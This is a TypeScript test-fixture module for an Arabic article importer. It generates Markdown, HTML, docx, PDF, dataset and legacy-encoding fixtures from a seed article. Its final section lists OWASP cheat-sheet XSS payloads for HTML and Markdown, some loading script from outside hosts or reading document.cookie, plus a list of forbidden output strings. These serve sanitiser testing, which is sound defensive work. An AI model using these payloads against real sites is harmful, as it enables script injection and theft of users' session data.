/**
 * Import fixtures made from the real seed article (assets/samples/seed-article.txt),
 * never from hand-typed Arabic: the same article as Markdown, a saved web page,
 * a .docx (docx package, bidi paragraphs), a PDF (Chromium prints it), datasets,
 * and the text in legacy encodings (iconv-lite). Shared by unit and e2e tests.
 */
import { readFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { stringify as yamlStringify } from 'yaml';
import { AlignmentType, Document, HeadingLevel, Packer, Paragraph, TextRun } from 'docx';
import { chromium, type Browser } from '@playwright/test';
import type { Block } from '../../common/types/article.js';
import { parsePlainText } from '../../common/text/plain-text.js';

export const SEED_PATH = fileURLToPath(new URL('../../assets/samples/seed-article.txt', import.meta.url));

export function seedText(): string {
  return readFileSync(SEED_PATH, 'utf8');
}

/** The seed's non-empty lines (one paragraph or sub-heading each). */
export function seedLines(): string[] {
  return seedText()
    .split(/\r?\n/)
    .map((line) => line.trim())
    .filter(Boolean);
}

export interface FixtureArticle {
  title: string;
  blocks: Block[];
}

/**
 * The seed as a structured article: a title (the opening words of the first
 * sentence), its paragraphs and two sub-headings, one paragraph turned into a
 * quote and the last paragraph's two sentences into list items, so every block
 * kind appears.
 */
export function seedArticle(): FixtureArticle {
  const blocks = parsePlainText(seedText());
  const title = blocks[0]!.text.split(' ').slice(0, 8).join(' ');
  const middle = blocks.findIndex((block, index) => index >= Math.floor(blocks.length / 2) && block.kind === 'paragraph');
  const withQuote = blocks.map((block, index): Block => (index === middle ? { kind: 'quote', text: block.text } : block));
  const last = withQuote.pop()!;
  const sentences = last.text.split(/(?<=\.)\s+/).filter(Boolean);
  return { title, blocks: [...withQuote, ...sentences.map((text): Block => ({ kind: 'list-item', text }))] };
}

/** Whitespace-insensitive, NFKC form for comparing extracted text with the seed (PDF text may differ in spacing). */
export function squash(text: string): string {
  return text.normalize('NFKC').replace(/[\s\u0640]+/g, '');
}

/** Collapsed whitespace, NFC: what every reader's block text looks like. */
export function tidy(text: string): string {
  return text.replace(/\s+/g, ' ').trim().normalize('NFC');
}

// ---------------------------------------------------------------- encodings

export type FixtureEncoding = 'utf-8' | 'utf-16le' | 'utf-16be' | 'windows-1256' | 'iso-8859-6';

/** Encodes text with iconv-lite, optionally with a BOM; throws if the encoding cannot hold the text. */
export function encodeText(text: string, encoding: FixtureEncoding, options: { bom?: boolean } = {}): Uint8Array {
  const body = iconv.encode(text, encoding);
  if (iconv.decode(body, encoding) !== text) throw new Error(`${encoding} cannot represent this text`);
  const bom = options.bom ? iconv.encode('\uFEFF', encoding) : Buffer.alloc(0);
  return new Uint8Array(Buffer.concat([bom, body]));
}

/** Seed lines that ISO-8859-6 can hold (it has no curly quotes): the "Arabic-only variant" of ENC-01. */
export function isoEncodableSeedText(): string {
  return seedLines()
    .filter((line) => iconv.decode(iconv.encode(line, 'iso-8859-6'), 'iso-8859-6') === line)
    .join('\n');
}

// ---------------------------------------------------------------- markdown

export function makeMarkdown(article: FixtureArticle, options: { frontMatter?: Record<string, unknown>; titleAsHeading?: boolean } = {}): string {
  const parts: string[] = [];
  if (options.frontMatter) parts.push(`---\n${yamlStringify(options.frontMatter).trimEnd()}\n---`);
  if (options.titleAsHeading ?? !options.frontMatter) parts.push(`# ${article.title}`);
  let list: string[] = [];
  const flushList = () => {
    if (list.length > 0) parts.push(list.join('\n'));
    list = [];
  };
  for (const block of article.blocks) {
    if (block.kind === 'list-item') {
      list.push(`- ${block.text}`);
      continue;
    }
    flushList();
    if (block.kind === 'heading') parts.push(`## ${block.text}`);
    else if (block.kind === 'quote') parts.push(`> ${block.text}`);
    else parts.push(block.text);
  }
  flushList();
  return `${parts.join('\n\n')}\n`;
}

// ---------------------------------------------------------------- html

const escapeHtml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function blocksHtml(blocks: readonly Block[]): string {
  const out: string[] = [];
  let list: string[] = [];
  const flushList = () => {
    if (list.length > 0) out.push(`<ul>${list.join('')}</ul>`);
    list = [];
  };
  for (const block of blocks) {
    if (block.kind === 'list-item') {
      list.push(`<li>${escapeHtml(block.text)}</li>`);
      continue;
    }
    flushList();
    if (block.kind === 'heading') out.push(`<h2>${escapeHtml(block.text)}</h2>`);
    else if (block.kind === 'quote') out.push(`<blockquote><p>${escapeHtml(block.text)}</p></blockquote>`);
    else out.push(`<p>${escapeHtml(block.text)}</p>`);
  }
  flushList();
  return out.join('\n');
}

export interface PageMetaFixture {
  siteName?: string;
  author?: string;
  /** ISO date-time for article:published_time and JSON-LD. */
  published?: string;
  url?: string;
  tags?: string[];
  /** Raw HTML put inside the article body (e.g. an XSS payload). */
  extraBody?: string;
  /** Raw HTML put in <head>. */
  extraHead?: string;
  charset?: string;
}

/** A saved news page: head metadata (og:, article:, canonical, JSON-LD), site chrome around the article, scripts. */
export function makeHtmlPage(article: FixtureArticle, meta: PageMetaFixture = {}): string {
  const jsonLd = {
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: article.title,
    ...(meta.published ? { datePublished: meta.published } : {}),
    ...(meta.author ? { author: { '@type': 'Person', name: meta.author } } : {}),
    ...(meta.siteName ? { publisher: { '@type': 'Organization', name: meta.siteName } } : {}),
    ...(meta.tags ? { keywords: meta.tags.join(', ') } : {}),
  };
  return `<!doctype html>
<html lang="ar" dir="rtl">
<head>
<meta charset="${meta.charset ?? 'utf-8'}">
<title>${escapeHtml(article.title)}${meta.siteName ? ` | ${escapeHtml(meta.siteName)}` : ''}</title>
<meta property="og:title" content="${escapeHtml(article.title)}">
${meta.siteName ? `<meta property="og:site_name" content="${escapeHtml(meta.siteName)}">` : ''}
${meta.published ? `<meta property="article:published_time" content="${escapeHtml(meta.published)}">` : ''}
${meta.url ? `<link rel="canonical" href="${escapeHtml(meta.url)}">` : ''}
${(meta.tags ?? []).map((tag) => `<meta property="article:tag" content="${escapeHtml(tag)}">`).join('\n')}
<script type="application/ld+json">${JSON.stringify(jsonLd)}</script>
<script>window.__tracking = true;</script>
<style>body { font-family: serif; }</style>
${meta.extraHead ?? ''}
</head>
<body>
<header class="site-header"><nav><a href="/">الرئيسية</a> <a href="/news">أخبار</a> <a href="/sport">رياضة</a></nav></header>
<main>
<article class="article-body">
<h1>${escapeHtml(article.title)}</h1>
${blocksHtml(article.blocks)}
${meta.extraBody ?? ''}
</article>
</main>
<footer class="site-footer"><p>© ${escapeHtml(meta.siteName ?? '')}</p></footer>
<script src="https://example.com/analytics.js"></script>
</body>
</html>
`;
}

// ---------------------------------------------------------------- docx

/** A .docx with the article: Title, Heading 2 sub-headings, a "Quote" paragraph, bullets; every paragraph bidi. */
export async function makeDocx(article: FixtureArticle): Promise<Uint8Array> {
  const run = (text: string) => new TextRun({ text, rightToLeft: true });
  const rtl = { bidirectional: true, alignment: AlignmentType.START } as const;
  const children = [
    new Paragraph({ ...rtl, heading: HeadingLevel.TITLE, children: [run(article.title)] }),
    ...article.blocks.map((block) => {
      if (block.kind === 'heading') return new Paragraph({ ...rtl, heading: HeadingLevel.HEADING_2, children: [run(block.text)] });
      if (block.kind === 'quote') return new Paragraph({ ...rtl, style: 'Quote', children: [run(block.text)] });
      if (block.kind === 'list-item') return new Paragraph({ ...rtl, bullet: { level: 0 }, children: [run(block.text)] });
      return new Paragraph({ ...rtl, children: [run(block.text)] });
    }),
  ];
  const doc = new Document({
    title: article.title,
    styles: { paragraphStyles: [{ id: 'Quote', name: 'Quote', basedOn: 'Normal', run: { italics: true } }] },
    sections: [{ children }],
  });
  return new Uint8Array(await Packer.toBuffer(doc));
}

// ---------------------------------------------------------------- pdf

/**
 * Whether the system has an Arabic font for Chromium to print with. The
 * system's Noto Naskh Arabic maps every glyph back to its letter; the web-font
 * build in @fontsource draws the dots as separate glyphs, which PDF text
 * extraction cannot map back, so it is not used here.
 */
export function arabicFontInstalled(): boolean {
  try {
    return execFileSync('fc-list', [':lang=ar', 'family'], { encoding: 'utf8' }).trim() !== '';
  } catch {
    return false;
  }
}

/**
 * The article as a printable page. `visualOrder` lays the Arabic out left to
 * right in logical order (bidi-override), which is how a non-bidi-aware
 * producer writes it: the PDF's text then comes back in visual order.
 */
export function pdfHtml(article: FixtureArticle, options: { visualOrder?: boolean } = {}): string {
  const override = options.visualOrder ? 'p, h1, h2, li, blockquote { unicode-bidi: bidi-override; direction: ltr; text-align: left; }' : '';
  return `<!doctype html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>${escapeHtml(article.title)}</title>
<style>body { font-family: 'Noto Naskh Arabic', 'Noto Sans Arabic', 'DejaVu Sans', serif; font-size: 14px; line-height: 1.7; }
h1 { font-size: 26px; } h2 { font-size: 19px; } p, li, blockquote { margin: 0 0 1em; } ${override}</style></head>
<body><h1>${escapeHtml(article.title)}</h1>${blocksHtml(article.blocks)}</body></html>`;
}

export const CHROMIUM_ARGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
];

export interface PdfMaker {
  /** Prints HTML to an A4 PDF. */
  pdf(html: string): Promise<Uint8Array>;
  close(): Promise<void>;
}

/** One Chromium for many PDFs (launching takes seconds). */
export async function startPdfMaker(): Promise<PdfMaker> {
  const browser: Browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
  return {
    async pdf(html) {
      const page = await browser.newPage();
      try {
        await page.setContent(html, { waitUntil: 'load' });
        await page.evaluate(() => document.fonts.ready);
        return new Uint8Array(await page.pdf({ format: 'A4', margin: { top: '2cm', bottom: '2cm', left: '2cm', right: '2cm' } }));
      } finally {
        await page.close();
      }
    },
    close: () => browser.close(),
  };
}

// ---------------------------------------------------------------- datasets

export interface DatasetRecord {
  id?: string;
  title: string;
  body: string;
  source?: string;
  url?: string;
  author?: string;
  published?: string;
  tags?: string[];
}

/** Dataset records from the seed: each sub-heading's section becomes an article. */
export function seedRecords(): DatasetRecord[] {
  const lines = seedLines();
  return [
    { id: 'seed-1', title: lines[1]!, body: lines.slice(2, 5).join('\n\n'), source: 'الجزيرة', published: '7 ديسمبر 2024', tags: ['سوريا', 'حمص'], url: 'https://example.com/a/1', author: 'مراسل' },
    { id: 'seed-2', title: lines[11]!, body: lines.slice(12).join('\n\n'), published: '2024-12-07' },
  ];
}

export function makeJsonl(records: readonly object[]): Uint8Array {
  return new TextEncoder().encode(`${records.map((record) => JSON.stringify(record)).join('\n')}\n`);
}

/** CSV with tags joined by ";" (the dataset reader also accepts ","). */
export function makeCsv(records: readonly DatasetRecord[]): Uint8Array {
  const rows = records.map((record) => ({ ...record, tags: (record.tags ?? []).join(';') }));
  return new TextEncoder().encode(Papa.unparse(rows, { columns: ['id', 'title', 'body', 'source', 'url', 'author', 'published', 'tags'] }));
}

// ---------------------------------------------------------------- XSS payloads

/** OWASP XSS Filter Evasion Cheat Sheet vectors (script tags, handlers, javascript: URLs, iframes, style expressions). */
export const HTML_XSS_PAYLOADS: readonly string[] = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `<script>alert('XSS')</script>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="javascript:alert('XSS')">انقر هنا</a>`,
  `<A HREF="http://66.102.7.147/">XSS</A>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<form><button formaction="javascript:alert(1)">X</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
];

/** The same ideas written the Markdown ways: raw HTML, link and image syntax, autolinks, reference links. */
export const MARKDOWN_XSS_PAYLOADS: readonly string[] = [
  ...HTML_XSS_PAYLOADS,
  `[انقر](javascript:alert('XSS'))`,
  `[a](JaVaScRiPt:alert(1))`,
  `[a](javascript://%0d%0aalert(1))`,
  `![a](javascript:alert('XSS'))`,
  `![a"onerror="alert(1)](x)`,
  `<javascript:alert('XSS')>`,
  `[a][x]\n\n[x]: javascript:alert(1)`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<b onmouseover=alert(1)>نص</b> و <script>alert(2)</script> بعده`,
  `> <img src=x onerror=alert(1)>`,
  `- <svg onload=alert(1)>`,
];

/** Strings that must not appear anywhere in a parsed article's JSON. */
export const FORBIDDEN_IN_OUTPUT = ['<script', 'onerror', 'onload', 'javascript:'];
